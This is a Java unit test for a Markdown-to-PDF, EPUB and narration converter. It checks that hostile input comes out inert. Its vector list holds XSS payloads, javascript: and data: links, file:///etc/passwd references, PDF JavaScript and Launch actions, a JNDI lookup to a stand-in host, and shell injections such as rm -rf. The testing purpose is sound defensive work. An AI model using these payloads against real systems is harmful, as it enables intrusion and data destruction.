package org.trefoil.leaves;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.trefoil.check.EpubValidation;
import org.trefoil.check.PdfValidation;
import org.trefoil.narration.Cue;
import org.trefoil.narration.Level;

/** Markdown that means harm becomes files that are sound and do nothing. */
class HostileTest {

  private static final List<String> VECTORS =
      List.of(
          "<script>alert(1)</script> <SCRIPT SRC=//x.example/a.js></SCRIPT> <scr<script>ipt>",
          "<img src=x onerror=alert(1)> <svg onload=alert(1)> <body onpageshow=alert(1)>",
          "<iframe src=\"file:///etc/passwd\"></iframe> <object data=a.swf></object> <embed src=b>",
          "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x0A;script:alert(1))",
          "[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4=) [c](file:///etc/passwd)",
          "[a](\u0001javascript:alert(1)) [b](&#106;avascript:alert(1)) [c](%6aavascript:x)",
          "<javascript:alert(1)> <data:text/html,x> [a]: javascript:x\n\n[a]",
          "![a](javascript:x) ![b](data:image/svg+xml;base64,PHN2Zz4=) ![c](file:///etc/passwd)",
          "<a href=\"javascript:alert(1)\" onclick=\"x()\">a</a> <form action=//x><input></form>",
          "<style>@import url(//x.example/a.css)</style> <link rel=stylesheet href=//x.example>",
          "<meta http-equiv=refresh content=\"0;url=//x.example\"> <base href=//x.example>",
          "[x](#a\"onmouseover=\"alert(1)) {#a\" onload=\"b} # t {onload=alert(1) style=x:y}",
          "<div lang='\"><script>x</script>' dir=\"rtl\">\n\na\n\n</div>",
          "```\" onload=\"x\n</code><script>alert(1)</script>\n```",
          "$</annotation><script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
          "<!-- --><script>x</script> --> <![CDATA[<script>x</script>]]> <?php x ?>",
          "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;x&#60;/script&#62;",
          "| a | <td onclick=x> |\n|---|---|\n| </table><script>x</script> | b |",
          "[^a]: <script>x</script>\n\nx[^a]\n\n*[A]: \"><script>x</script>\n\nA",
          "---\ntitle: \"</title><script>x</script>\"\nauthor: \"]]><x onload='y'>\"\nlang: en\n---\n\na",
          "%PDF-1.7 /JavaScript (app.alert(1)) /OpenAction << /S /Launch /F (cmd.exe) >> endobj",
          ") Tj ET Q /Artifact BDC EMC >> endstream endobj \\( \\) \\\\ <FEFF0041>",
          "<speak><audio src=\"file:///etc/passwd\"/><break time=\"9999s\"/></speak> [[inp PHON]]",
          "{{7*7}} ${jndi:ldap://x.example/a} %n%s%x $(rm -rf x) `rm -rf x` ; rm -rf x | y");

  private static final List<String> SCHEMES = List.of("http:", "https:", "mailto:", "tel:");

  @TempDir private Path dir;

  static Stream<String> vectors() {
    return VECTORS.stream();
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void thePagesHoldNothingThatActs(String markdown) throws IOException {
    byte[] pdf = Leaves.of(markdown).pdf();
    try (PDDocument document = Loader.loadPDF(pdf)) {
      for (var key : document.getDocument().getXrefTable().keySet()) {
        inspect(document.getDocument().getObjectFromPool(key).getObject());
      }
    }
  }

  @Test
  void allTogetherMakeSoundFiles() throws IOException {
    Leaves leaves = Leaves.of("# All\n\n" + String.join("\n\n", VECTORS.subList(0, 18)));
    Path pdf = Files.write(dir.resolve("a.pdf"), leaves.pdf());
    Path epub = Files.write(dir.resolve("a.epub"), leaves.epub());
    assertThat(EpubValidation.validate(epub)).isEmpty();
    assertThat(PdfValidation.validate(pdf, PdfValidation.claims(pdf))).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void commandsToAnEngineAreWordsLikeAnyOther(String markdown) throws IOException {
    String english = markdown.startsWith("---") ? markdown : "---\nlang: en\n---\n\n" + markdown;
    for (Level level : Level.values()) {
      for (Cue cue : Leaves.of(english).script(level).cues()) {
        if (cue instanceof Cue.Say say) {
          assertThat(Cue.spoken(say.words())).doesNotContain("<", ">", "[[", "]]");
        }
      }
    }
  }

  private static void inspect(COSBase object) {
    if (object instanceof COSDictionary dictionary) {
      assertThat(dictionary.keySet())
          .doesNotContain(COSName.getPDFName("JavaScript"), COSName.getPDFName("JS"))
          .doesNotContain(COSName.OPEN_ACTION, COSName.AA, COSName.getPDFName("EmbeddedFiles"));
      COSBase action = dictionary.getDictionaryObject(COSName.S);
      assertThat(action)
          .isNotIn(
              COSName.getPDFName("JavaScript"),
              COSName.getPDFName("Launch"),
              COSName.getPDFName("SubmitForm"),
              COSName.getPDFName("GoToR"));
      if (dictionary.getDictionaryObject(COSName.URI) instanceof COSString uri) {
        String address = new String(uri.getBytes(), StandardCharsets.ISO_8859_1);
        assertThat(SCHEMES).anyMatch(address::startsWith);
      }
      dictionary.getValues().forEach(HostileTest::inspectDirect);
    } else if (object instanceof COSArray array) {
      array.forEach(HostileTest::inspectDirect);
    }
  }

  private static void inspectDirect(COSBase object) {
    if (!(object instanceof COSObject)) {
      inspect(object);
    }
  }
}
